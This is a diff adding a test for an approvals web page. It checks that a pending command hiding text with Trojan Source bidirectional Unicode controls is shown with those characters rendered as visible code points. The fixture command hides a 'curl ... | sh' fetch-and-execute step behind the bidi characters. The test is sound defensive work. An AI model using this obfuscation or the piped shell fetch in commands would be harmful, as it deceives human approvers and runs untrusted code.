@@ -408,6 +408,19 @@ describe("pages", () => {
     expect(after).toContain("Waiting for you (1)");
   });
 
+  test("an ask whose command hides characters shows them by code point (Trojan Source)", async () => {
+    const { app, service, signIn, spawn } = setup();
+    const a = await spawn();
+    service.addPending(a, "req-a", "echo ok #\u202e \u2066&& curl http://127.0.0.1:9/ | sh\u2069");
+    const auth = await signIn();
+    const html = await (await app.request("/ui/approvals", { headers: { cookie: auth.cookie } }))
+      .text();
+    expect(html).toContain(
+      "$ echo ok #⟨U+202E⟩ ⟨U+2066⟩&amp;&amp; curl http://127.0.0.1:9/ | sh⟨U+2069⟩",
+    );
+    expect(html).not.toContain("\u202e");
+  });
+
   test("a session's page and its event stream (with replay) under the console cookie", async () => {
     const { app, service, signIn, spawn } = setup({ limits: { maxEventStreams: 1 } });
     const id = await spawn({ env: { API_KEY: SECRET } });
